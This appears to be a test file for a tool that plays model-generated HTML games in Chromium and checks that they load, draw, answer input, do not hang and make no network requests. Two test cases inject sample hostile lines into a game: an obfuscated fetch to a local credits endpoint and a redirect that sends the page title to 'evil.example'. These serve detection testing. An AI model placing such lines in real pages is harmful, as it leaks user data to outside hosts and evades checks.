/** Games of models played in Chromium: the examples of the reference pass, and what is wrong or hostile is found. */
import { afterAll, describe, expect, test } from 'vitest';
import { createGamePlayer } from '../../../src/generation/browser/game-player.js';
import { EXAMPLES } from '../../../src/generation/providers/code-reference.js';
import { finishPage } from '../../../src/generation/written/page.js';
import { chromiumIsThere } from '../../helpers/browser.js';

const never = new AbortController().signal;
const [arcade = '', story = ''] = EXAMPLES.map(({ page }) => page);

test('without a browser nothing is played, and the report says why', async () => {
  const player = createGamePlayer('/nowhere/chromium');
  expect(await player.play({ html: arcade }, never)).toEqual({
    playability: {
      verdict: 'unverified',
      checks: [
        {
          name: 'browser',
          ok: false,
          detail: 'Not played in a browser: CHROMIUM_PATH names no file.',
          finding: 'not_installed',
        },
      ],
    },
    picture: undefined,
  });
});

describe.skipIf(!chromiumIsThere)('in Chromium', { timeout: 240_000 }, () => {
  const player = createGamePlayer(process.env['CHROMIUM_PATH']);
  afterAll(() => player.close());

  /** The check that failed, or the verdict. */
  const play = async (source: string): Promise<string> => {
    const { playability } = await player.play({ html: finishPage(source, 1).html }, never);
    const failed = playability.checks.find(({ ok }) => !ok);
    return failed ? `${playability.verdict} ${failed.name}: ${failed.detail}` : playability.verdict;
  };

  test('the examples pass, with a picture', async () => {
    const { playability, picture } = await player.play({ html: finishPage(arcade, 1).html }, never);
    expect(playability).toEqual({
      verdict: 'pass',
      checks: ['ready', 'no-hang', 'not-blank', 'restart', 'input'].map((name) => ({ name, ok: true })),
    });
    expect(picture?.subarray(1, 4).toString()).toBe('PNG');
    expect(await play(story)).toBe('pass');
  });

  test('a game answers whose end is the same without keys', async () => {
    // the last click brings it where an untouched game is
    const page = `<!doctype html><title>Last</title><body style="margin:0;height:100vh;background:linear-gradient(90deg,red,blue)"><script>
let last='';addEventListener('keydown',e=>{last=e.code});addEventListener('click',()=>{last='click'});
window.render_game_to_text=()=>JSON.stringify({last});window.advanceTime=()=>{};</script></body>`;
    expect(await play(page)).toBe('pass');
  });

  const changed = (from: string, to: string) => {
    expect(arcade).toContain(from);
    return arcade.replace(from, to);
  };

  test.each([
    ['throws at its start', () => changed('let s={', 'missing(); let s={'), 'fail ready: missing is not defined'],
    ['throws while it is played', () => changed('s.fish.push(', 'oops.push('), 'fail no-error: oops is not defined'],
    [
      'never draws',
      () => changed('function draw(){', 'function draw(){return;'),
      'fail not-blank: the screen is nearly empty',
    ],
    [
      'answers no key',
      () =>
        changed("addEventListener('keydown'", "addEventListener('keyxxx'").replaceAll(
          "addEventListener('pointer",
          "addEventListener('xxx",
        ),
      'fail input: keys (ArrowRight',
    ],
    ['hangs', () => changed('function step(){', 'function step(){while(true);'), 'fail no-hang'],
    [
      'reaches for the network',
      () => changed('let s={', 'window["fe"+"tch"]("http://127.0.0.1:4000/api/credits").catch(()=>{});let s={'),
      'fail no-request: it reaches for the network',
    ],
    [
      'leaves its page',
      () => changed('let s={', 'location.href="http://evil.example/?"+document.title;let s={'),
      'fail no-request: it reaches for the network: http://evil.example/',
    ],
  ])('a game that %s', async (_, page, start) => {
    expect(await play(page())).toContain(start);
  });

  test('a run that is canceled waits for no game', async () => {
    const canceled = new AbortController();
    const playing = player.play(
      { html: finishPage(changed('function step(){', 'function step(){while(true);'), 1).html },
      canceled.signal,
    );
    canceled.abort(new Error('canceled'));
    await expect(playing).rejects.toThrow('canceled');
  });
});
